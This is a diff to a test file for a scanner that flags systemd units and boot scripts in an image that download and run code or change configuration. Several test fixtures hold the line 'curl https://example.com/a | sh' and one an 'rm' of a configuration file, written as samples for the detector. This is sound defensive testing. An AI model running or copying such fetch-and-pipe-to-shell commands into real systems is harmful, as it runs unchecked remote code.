@@ -162,7 +162,7 @@ describe('scripts that a unit starts', () => {
         '/usr/lib/systemd/system/x.service': '[Service]\nExecStart=/usr/bin/x\n',
         '/usr/bin/x': { unreadable: 'x' },
       },
-      [],
+      ['boot-script-unread /usr/lib/systemd/system/x.service:2'],
     ],
     [
       'a download by a script in a folder of the distribution, which a unit of the image starts',
@@ -178,7 +178,7 @@ describe('scripts that a unit starts', () => {
         '/etc/systemd/system/a.wants/x.service': { symlink: '/usr/lib/systemd/system/x.service' },
         '/usr/lib/systemd/system/x.service': '[Service]\nExecStart=/bin/sh -c "curl https://example.com/a | sh"\n',
       },
-      [],
+      ['boot-runs-download /usr/lib/systemd/system/x.service:2'],
     ],
     ['a unit that cannot be read', { [UNIT]: { unreadable: 'permission denied' } }, [`boot-script-unread ${UNIT}:1`]],
     [
@@ -225,6 +225,110 @@ describe('scripts that a unit starts', () => {
     ],
   ])('%s', async (_, files, expected) => {
     expect(await seen({ ...start, ...files })).toEqual(expected);
+  });
+});
+
+describe('a unit in a folder of packages', () => {
+  const FILE = '/usr/lib/systemd/system/first-boot.service';
+  const SCRIPT = '/usr/libexec/first-boot';
+  const DOUBT = [`boot-runs-download ${SCRIPT}:2`];
+  const files: Files = {
+    [FILE]: `[Service]\nExecStart=${SCRIPT}\n[Install]\nWantedBy=multi-user.target\n`,
+    [SCRIPT]: { content: '#!/bin/sh\ncurl https://example.com/a | sh\n', mode: 0o755 },
+    '/usr/lib/systemd/system/default.target': { symlink: 'multi-user.target' },
+    '/usr/lib/systemd/system/multi-user.target': '[Unit]\n',
+    '/etc/machine-id': '0123\n',
+  };
+  const wanted: Files = {
+    '/usr/lib/systemd/system/multi-user.target.wants/first-boot.service': { symlink: '../first-boot.service' },
+  };
+  const { [SCRIPT]: _, ...withoutScript } = files;
+  const { '/etc/machine-id': __, ...firstBoot } = files;
+
+  it.each<[string, Files, readonly string[]]>([
+    ['that nothing starts', files, []],
+    ['that the folder’s own link starts', { ...files, ...wanted }, DOUBT],
+    [
+      'that another one starts',
+      {
+        ...files,
+        '/usr/lib/systemd/system/multi-user.target.wants/a.service': { symlink: '../a.service' },
+        '/usr/lib/systemd/system/a.service': '[Unit]\nWants=first-boot.service\n',
+      },
+      DOUBT,
+    ],
+    [
+      'that a timer starts',
+      {
+        ...files,
+        '/etc/systemd/system/timers.target.wants/first-boot.timer': {
+          symlink: '/usr/lib/systemd/system/first-boot.timer',
+        },
+        '/usr/lib/systemd/system/first-boot.timer': '[Timer]\nOnBootSec=10\n',
+        '/usr/lib/systemd/system/multi-user.target': '[Unit]\nWants=timers.target\n',
+        '/usr/lib/systemd/system/timers.target': '[Unit]\n',
+      },
+      DOUBT,
+    ],
+    ['that a first boot enables', firstBoot, DOUBT],
+    [
+      'that a preset leaves disabled',
+      { ...firstBoot, '/usr/lib/systemd/system-preset/90.preset': 'disable first-*\n' },
+      [],
+    ],
+    ['that is masked', { ...files, ...wanted, '/etc/systemd/system/first-boot.service': { symlink: '/dev/null' } }, []],
+    [
+      'that one of /etc hides',
+      { ...files, ...wanted, '/etc/systemd/system/first-boot.service': '[Service]\nExecStart=/bin/true\n' },
+      [],
+    ],
+    [
+      'with a command in a drop-in',
+      {
+        ...files,
+        ...wanted,
+        [FILE]: '[Service]\nExecStart=/bin/true\n',
+        '/usr/lib/systemd/system/first-boot.service.d/10.conf': `[Service]\nExecStartPost=${SCRIPT}\n`,
+      },
+      DOUBT,
+    ],
+    [
+      'that is a template',
+      {
+        ...withoutScript,
+        [SCRIPT]: files[SCRIPT]!,
+        '/usr/lib/systemd/system/first@.service': `[Service]\nExecStart=${SCRIPT} %i\n`,
+        '/etc/systemd/system/multi-user.target.wants/first@one.service': {
+          symlink: '/usr/lib/systemd/system/first@.service',
+        },
+      },
+      DOUBT,
+    ],
+    [
+      'whose script cannot be read',
+      { ...withoutScript, ...wanted, [SCRIPT]: { unreadable: 'x' } },
+      [`boot-script-unread ${FILE}:2`],
+    ],
+    [
+      'whose large script has a script’s name',
+      {
+        ...files,
+        ...wanted,
+        [FILE]: '[Service]\nExecStart=/usr/bin/first-boot.sh\n',
+        '/usr/bin/first-boot.sh': {
+          content: `#!/bin/sh\ncurl https://example.com/a | sh\n${'true\n'.repeat(20_000)}`,
+          mode: 0o755,
+        },
+      },
+      ['boot-runs-download /usr/bin/first-boot.sh:2'],
+    ],
+    [
+      'that writes a configuration',
+      { ...files, ...wanted, [SCRIPT]: `#!/bin/sh\nrm ${CONFIG}\n` },
+      [`writes containerd ${FILE}:2`],
+    ],
+  ])('%s', async (_, given, expected) => {
+    expect(await seen(given)).toEqual(expected);
   });
 });
 
